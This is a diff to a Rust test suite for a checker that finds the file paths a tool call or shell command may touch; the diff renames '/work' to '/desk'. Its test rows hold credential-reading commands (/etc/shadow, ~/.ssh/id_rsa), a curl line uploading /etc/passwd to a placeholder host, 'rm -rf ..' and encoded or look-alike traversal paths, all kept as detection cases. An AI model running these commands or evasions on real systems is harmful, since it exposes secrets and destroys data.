@@ -8,7 +8,7 @@ use serde_json::{Value, json};
 fn call(input: &Value) -> Call {
     let input = input.as_object().cloned().unwrap_or_default();
     let mut call = Call { input, ..Call::new("1", "tool") };
-    call.about.cwd = Some("/work/app".into());
+    call.about.cwd = Some("/desk/app".into());
     call
 }
 
@@ -50,18 +50,18 @@ fn check_inputs(rows: Vec<(Value, &str)>) {
 #[test]
 fn a_path_is_seen_in_any_field_that_may_hold_one() {
     check_inputs(vec![
-        (json!({ "path": "a.txt" }), "/work/app/a.txt"),
-        (json!({ "filename": "../x" }), "/work/x"),
+        (json!({ "path": "a.txt" }), "/desk/app/a.txt"),
+        (json!({ "filename": "../x" }), "/desk/x"),
         (json!({ "options": { "path": "/etc/passwd" } }), "/etc/passwd"),
-        (json!({ "paths": ["/etc/passwd", "b"] }), "/etc/passwd, /work/app/b"),
+        (json!({ "paths": ["/etc/passwd", "b"] }), "/etc/passwd, /desk/app/b"),
         (json!({ "path": ["/etc/passwd"] }), "/etc/passwd"),
-        (json!({ "Path": "../x" }), "/work/x"),
-        (json!({ "target_file": "x" }), "/work/app/x"),
-        (json!({ "filePath": "x", "NOTEBOOK-PATH": "y" }), "/work/app/x, /work/app/y"),
+        (json!({ "Path": "../x" }), "/desk/x"),
+        (json!({ "target_file": "x" }), "/desk/app/x"),
+        (json!({ "filePath": "x", "NOTEBOOK-PATH": "y" }), "/desk/app/x, /desk/app/y"),
         (json!({ "anything": "/etc/passwd" }), "/etc/passwd"),
         (json!({ "anything": "a/../../../etc" }), "/etc"),
         (json!({ "files": { "../../etc/passwd": "text" } }), "/etc/passwd"),
-        (json!({ "source": "fn main() {}\n", "to": "someone" }), "/work/app/someone"),
+        (json!({ "source": "fn main() {}\n", "to": "someone" }), "/desk/app/someone"),
         (json!({ "source": "x\n/../../../etc" }), "?ControlCharacter"),
         (json!({ "text": "see /etc/passwd", "profile": "default", "n": 7 }), ""),
         (json!({ "content": "// a comment\nfn main() {}" }), ""),
@@ -74,15 +74,15 @@ fn a_path_is_seen_in_any_field_that_may_hold_one() {
 fn a_path_that_a_tool_may_read_otherwise_is_a_doubt() {
     check_inputs(vec![
         (json!({ "file": " /etc/passwd" }), "?LooseEnd"),
-        (json!({ "file": "/work/app/.git./config" }), "?LooseEnd"),
+        (json!({ "file": "/desk/app/.git./config" }), "?LooseEnd"),
         (json!({ "file": "secret.txt " }), "?LooseEnd"),
         (json!({ "path": "~/.ssh/id_rsa" }), "?Home"),
         (json!({ "path": "~root/.ssh" }), "?Home"),
         (json!({ "path": "$HOME/.ssh" }), "?Variable"),
         (json!({ "path": "%APPDATA%/x" }), "?Variable"),
         (json!({ "path": "a/$X" }), "?Variable"),
-        (json!({ "path": "/work/app/%2e%2e/%2e%2e/etc" }), "?Encoded"),
-        (json!({ "path": "100%.txt" }), "/work/app/100%.txt"),
+        (json!({ "path": "/desk/app/%2e%2e/%2e%2e/etc" }), "?Encoded"),
+        (json!({ "path": "100%.txt" }), "/desk/app/100%.txt"),
         (json!({ "path": "a\0b" }), "?ControlCharacter"),
         (json!({ "path": "a\nb" }), "?ControlCharacter"),
         (json!({ "path": "" }), "?Empty"),
@@ -96,9 +96,9 @@ fn a_path_that_a_tool_may_read_otherwise_is_a_doubt() {
         (json!({ "path": "\u{ff0e}\u{ff0e}/etc" }), "?LookAlike"),
         (json!({ "path": "a\u{200b}b" }), "?LookAlike"),
         (json!({ "path": "/proc/self/root/etc/passwd" }), "?Magic"),
-        (json!({ "path": "/work/../proc/1/cwd/x" }), "?Magic"),
+        (json!({ "path": "/desk/../proc/1/cwd/x" }), "?Magic"),
         (json!({ "path": "/proc/self/cwd/../../x" }), "?Magic"),
-        (json!({ "path": "/work/app/proc/task/x" }), "/work/app/proc/task/x"),
+        (json!({ "path": "/desk/app/proc/task/x" }), "/desk/app/proc/task/x"),
         (json!({ "path": "/proc/cpuinfo" }), "/proc/cpuinfo"),
         (json!({ "path": "/dev/fd/3" }), "?Magic"),
     ]);
@@ -109,11 +109,11 @@ fn a_file_address_is_decoded_once() {
     check_inputs(vec![
         (json!({ "path": "file:///etc/passwd" }), "/etc/passwd"),
         (json!({ "url": "FILE:///etc/passwd" }), "/etc/passwd"),
-        (json!({ "url": "file:///work/app/%2e%2e/x" }), "/work/x"),
-        (json!({ "url": "file:///work/a%20b" }), "/work/a b"),
-        (json!({ "url": "file:///work%2f..%2fetc" }), "/etc"),
-        (json!({ "url": "file:///work/%252e%252e/etc" }), "?Encoded"),
-        (json!({ "url": "file:///work/%00" }), "?ControlCharacter"),
+        (json!({ "url": "file:///desk/app/%2e%2e/x" }), "/desk/x"),
+        (json!({ "url": "file:///desk/a%20b" }), "/desk/a b"),
+        (json!({ "url": "file:///desk%2f..%2fetc" }), "/etc"),
+        (json!({ "url": "file:///desk/%252e%252e/etc" }), "?Encoded"),
+        (json!({ "url": "file:///desk/%00" }), "?ControlCharacter"),
         (json!({ "url": "file:///%ff" }), "?Encoded"),
         (json!({ "url": "file://localhost/etc" }), "/etc"),
         (json!({ "url": "file://host/etc" }), "?Elsewhere"),
@@ -126,42 +126,42 @@ fn a_file_address_is_decoded_once() {
 #[test]
 fn a_path_is_seen_in_the_words_of_a_script() {
     check_scripts(&[
-        ("cat a", "/work/app/a"),
-        ("cat ../outside/secret.txt", "/work/outside/secret.txt"),
-        ("cat \"../outside/secret.txt\"", "/work/outside/secret.txt"),
+        ("cat a", "/desk/app/a"),
+        ("cat ../outside/secret.txt", "/desk/outside/secret.txt"),
+        ("cat \"../outside/secret.txt\"", "/desk/outside/secret.txt"),
         ("cat ~/.ssh/id_rsa", "?Home"),
         ("cat ~root/.ssh/id_rsa", "?Home"),
         ("cat $HOME/.ssh/id_rsa", "?Computed"),
         ("ls $OLDPWD", "?Computed"),
-        ("git --git-dir=/etc/.git log", "/etc/.git, /work/app/log"),
-        ("grep -f/etc/shadow a", "/etc/shadow, /work/app/a"),
-        ("grep -rf/etc/shadow a", "/work/app/f/etc/shadow, /etc/shadow, /work/app/a"),
-        ("gcc -Isrc/a x.c", "/work/app/src/a, /work/app/x.c"),
-        ("tar -cf o --directory=/etc p", "/work/app/o, /etc, /work/app/p"),
+        ("git --git-dir=/etc/.git log", "/etc/.git, /desk/app/log"),
+        ("grep -f/etc/shadow a", "/etc/shadow, /desk/app/a"),
+        ("grep -rf/etc/shadow a", "/desk/app/f/etc/shadow, /etc/shadow, /desk/app/a"),
+        ("gcc -Isrc/a x.c", "/desk/app/src/a, /desk/app/x.c"),
+        ("tar -cf o --directory=/etc p", "/desk/app/o, /etc, /desk/app/p"),
         ("cat {/etc/passwd,/etc/shadow}", "/etc/passwd, /etc/shadow"),
-        ("dd if=/etc/passwd of=x", "/work/app/if=/etc/passwd, /etc/passwd, /work/app/of=x"),
-        ("cat .git/config", "/work/app/.git/config"),
-        ("curl -d @/etc/passwd https://example.com/", "/work/app/@/etc/passwd, /etc/passwd"),
-        ("docker run -v /etc:/mnt x", "/work/app/run, /etc:/mnt, /etc, /mnt, /work/app/x"),
+        ("dd if=/etc/passwd of=x", "/desk/app/if=/etc/passwd, /etc/passwd, /desk/app/of=x"),
+        ("cat .git/config", "/desk/app/.git/config"),
+        ("curl -d @/etc/passwd https://example.com/", "/desk/app/@/etc/passwd, /etc/passwd"),
+        ("docker run -v /etc:/mnt x", "/desk/app/run, /etc:/mnt, /etc, /mnt, /desk/app/x"),
         ("python3 -c 'print(open(\"/etc/passwd\"))'", "/etc/passwd"),
-        ("awk '{print $1}' x", "/work/app/x"),
-        ("git commit -m 'fix; docs'", "/work/app/commit"),
+        ("awk '{print $1}' x", "/desk/app/x"),
+        ("git commit -m 'fix; docs'", "/desk/app/commit"),
         ("/bin/ls", "/bin/ls"),
         ("echo /etc/passwd", ""),
         ("curl https://example.com/etc/passwd", ""),
         ("curl file:///etc/passwd", "/etc/passwd"),
-        ("cat -- -x /y", "/work/app/-x, /y"),
+        ("cat -- -x /y", "/desk/app/-x, /y"),
         ("cat 'a\\..\\b'", "?Backslash"),
         ("cat $\"/etc/passwd\"", "/etc/passwd"),
-        ("find .. -delete", "/work"),
-        ("env rm -rf ..", "/work"),
+        ("find .. -delete", "/desk"),
+        ("env rm -rf ..", "/desk"),
         ("awk 'BEGIN{system(\"cat /etc/passwd\")}'", "/etc/passwd"),
-        ("grep 'a\\.b' x", "/work/app/a\\.b, /work/app/x"),
+        ("grep 'a\\.b' x", "/desk/app/a\\.b, /desk/app/x"),
     ]);
     check_inputs(vec![
         (json!({ "command": ["cat", "/etc/passwd"] }), "/etc/passwd"),
         (json!({ "input": { "cmd": "cat /etc/passwd" } }), "/etc/passwd"),
-        (json!({ "command": "tar", "args": ["--directory=/etc", "p"] }), "/etc, /work/app/p"),
+        (json!({ "command": "tar", "args": ["--directory=/etc", "p"] }), "/etc, /desk/app/p"),
     ]);
 }
 
@@ -169,39 +169,39 @@ fn a_path_is_seen_in_the_words_of_a_script() {
 fn a_relative_path_starts_wherever_the_call_may_stand() {
     check_scripts(&[
         ("cd /etc && cat passwd", "/etc, /etc/passwd"),
-        ("cd /etc; cat passwd", "/etc, /work/app/passwd or /etc/passwd"),
-        ("(cd /etc) && cat passwd", "/etc, /work/app/passwd or /etc/passwd"),
-        ("cd sub && cat ../a && cd .. && cat ../b", "/work/app/sub, /work/app/a, /work/app, /work/b"),
+        ("cd /etc; cat passwd", "/etc, /desk/app/passwd or /etc/passwd"),
+        ("(cd /etc) && cat passwd", "/etc, /desk/app/passwd or /etc/passwd"),
+        ("cd sub && cat ../a && cd .. && cat ../b", "/desk/app/sub, /desk/app/a, /desk/app, /desk/b"),
         (
             "cd a; cd b; cat c",
-            "/work/app/a, /work/app/b or /work/app/a/b, /work/app/c or /work/app/a/c or /work/app/b/c or /work/app/a/b/c",
+            "/desk/app/a, /desk/app/b or /desk/app/a/b, /desk/app/c or /desk/app/a/c or /desk/app/b/c or /desk/app/a/b/c",
         ),
-        ("cd /a; cd /b; cat c", "/a, /b, /work/app/c or /a/c or /b/c"),
+        ("cd /a; cd /b; cat c", "/a, /b, /desk/app/c or /a/c or /b/c"),
         ("cd && cat x", "?Folder"),
         ("cd - && cat x", "?Folder"),
         ("cd \"$X\" && cat x /y", "?Computed, ?Folder, /y"),
-        ("cat a; popd; cat b", "/work/app/a, ?Folder"),
-        ("tar -C / -cf - etc/passwd", "/, /work/app/etc/passwd or /etc/passwd"),
+        ("cat a; popd; cat b", "/desk/app/a, ?Folder"),
+        ("tar -C / -cf - etc/passwd", "/, /desk/app/etc/passwd or /etc/passwd"),
         ("while true; do cat x; cd ..; done", "?Folder"),
-        ("f() { cat x; }; cd /etc; f", "/work/app/x or /etc/x, /etc"),
+        ("f() { cat x; }; cd /etc; f", "/desk/app/x or /etc/x, /etc"),
     ]);
     check_inputs(vec![(
         json!({ "command": "cat outside/x", "cwd": ".." }),
-        "/work, /work/app/outside/x or /work/outside/x",
+        "/desk, /desk/app/outside/x or /desk/outside/x",
     )]);
 }
 
 #[test]
 fn a_pattern_stands_for_the_folder_it_looks_in() {
     check_inputs(vec![
-        (json!({ "path": "src/*.rs" }), "/work/app/src/…"),
-        (json!({ "path": "*" }), "/work/app/…"),
+        (json!({ "path": "src/*.rs" }), "/desk/app/src/…"),
+        (json!({ "path": "*" }), "/desk/app/…"),
         (json!({ "path": "/*/passwd" }), "//…"),
-        (json!({ "path": "app/[id]/page.tsx" }), "/work/app/app/…"),
-        (json!({ "path": "../*/secret.txt" }), "/work/…"),
+        (json!({ "path": "app/[id]/page.tsx" }), "/desk/app/app/…"),
+        (json!({ "path": "../*/secret.txt" }), "/desk/…"),
         (json!({ "path": "*/../../x" }), "?Glob"),
         (json!({ "path": "a/.*" }), "?Glob"),
-        (json!({ "path": ".git*/x" }), "/work/app/…"),
+        (json!({ "path": ".git*/x" }), "/desk/app/…"),
         (json!({ "path": "{a,/etc}" }), "?Glob"),
     ]);
 }
@@ -215,9 +215,9 @@ fn the_host_may_tell_home_and_other_variables() {
         see(&paths(&call))
     };
     let rows = [
-        (json!({ "path": "~/x" }), "/home/me/x or /work/app/~/x"),
-        (json!({ "path": "$HOME/../x" }), "/home/x or /work/app/x"),
-        (json!({ "path": "${TMP}/x" }), "/tmp/x or /work/app/${TMP}/x"),
+        (json!({ "path": "~/x" }), "/home/me/x or /desk/app/~/x"),
+        (json!({ "path": "$HOME/../x" }), "/home/x or /desk/app/x"),
+        (json!({ "path": "${TMP}/x" }), "/tmp/x or /desk/app/${TMP}/x"),
         (json!({ "path": "$TMPDIR/x" }), "?Variable"),
         (json!({ "path": "$HOME$X" }), "?Variable"),
         (json!({ "path": "$REL/x" }), "?Variable"),
@@ -252,7 +252,7 @@ fn a_guess_is_told_from_what_is_surely_a_path() {
     }
 }
 
-/// A machine on which `/work/app/link` is a link to `/etc`, and `/secret` cannot be looked at.
+/// A machine on which `/desk/app/link` is a link to `/etc`, and `/secret` cannot be looked at.
 struct Linked;
 
 impl Files for Linked {
@@ -264,7 +264,7 @@ impl Files for Linked {
                 part => at = format!("{at}/{part}"),
             }
             match at.as_str() {
-                "/work/app/link" => at = "/etc/deep".into(),
+                "/desk/app/link" => at = "/etc/deep".into(),
                 "/secret" => return None,
                 _ => {}
             }
@@ -275,12 +275,12 @@ impl Files for Linked {
 
 #[test]
 fn text_and_file_must_both_lie_in_a_folder() {
-    // The path; whether it is, and may be, under `/work` by its text; the same with the links followed.
+    // The path; whether it is, and may be, under `/desk` by its text; the same with the links followed.
     let rows = [
         ("a", (true, true), (true, true)),
         ("link/x", (true, true), (false, true)),
         ("link/../x", (true, true), (false, true)),
-        ("../../work/app/a", (true, true), (true, true)),
+        ("../../desk/app/a", (true, true), (true, true)),
         ("/etc/deep", (false, false), (false, false)),
         ("/secret/x", (false, false), (false, true)),
         ("/*/x", (false, true), (false, true)),
@@ -292,7 +292,7 @@ fn text_and_file_must_both_lie_in_a_folder() {
     for (path, by_text, by_file) in rows {
         let found = paths(&call(&json!({ "path": path })));
         let [touched] = found.touched.as_slice() else { panic!("{path}: {found:?}") };
-        let answer = |files| (touched.is_under("/work", files), touched.may_be_under("/work", files));
+        let answer = |files| (touched.is_under("/desk", files), touched.may_be_under("/desk", files));
         assert_eq!((answer(None), answer(Some(&Linked))), (by_text, by_file), "{path}");
     }
 }
@@ -302,7 +302,7 @@ fn a_relative_path_that_starts_nowhere_is_never_surely_inside_a_known_folder() {
     let found = paths(&Call::new("1", "t").with("path", "a"));
     let [touched] = found.touched.as_slice() else { panic!("{found:?}") };
     assert_eq!(touched.spots.as_ref().unwrap()[0].path, "a");
-    assert!(!touched.is_under("/work", None) && touched.may_be_under("/work", None));
+    assert!(!touched.is_under("/desk", None) && touched.may_be_under("/desk", None));
     assert!(touched.is_under(".", None) && !touched.is_under(".", Some(&Linked)));
 }
 
@@ -347,13 +347,13 @@ fn disguised() -> impl Strategy<Value = (String, String)> {
     let step = prop_oneof![Just("./"), Just("/"), Just("x/../"), Just(".//y/./../"), Just("")];
     (
         prop::collection::vec(("[a-c]{1,3}", step), 1..5),
-        prop_oneof![Just("/work/app/"), Just(""), Just("../app/")],
+        prop_oneof![Just("/desk/app/"), Just(""), Just("../app/")],
     )
         .prop_map(|(parts, start)| {
             let plain: Vec<&str> = parts.iter().map(|(name, _)| name.as_str()).collect();
             // A path that starts with a slash is another one, so the first step stands before no other.
             let shown: Vec<String> = parts.iter().map(|(name, step)| format!("{name}/{step}")).collect();
-            (format!("/work/app/{}", plain.join("/")), format!("{start}{}", shown.concat()))
+            (format!("/desk/app/{}", plain.join("/")), format!("{start}{}", shown.concat()))
         })
 }
 
@@ -392,7 +392,7 @@ proptest! {
     fn any_input_is_looked_at_without_a_crash(value in anything()) {
         let found = paths(&call(&json!({ "x": value, "path": value })));
         for path in &found.touched {
-            prop_assert!(!path.is_under("/work", None) || path.may_be_under("/work", None));
+            prop_assert!(!path.is_under("/desk", None) || path.may_be_under("/desk", None));
             prop_assert!(path.spots.as_ref().is_ok_and(|spots| !spots.is_empty()) || path.spots.is_err());
         }
     }
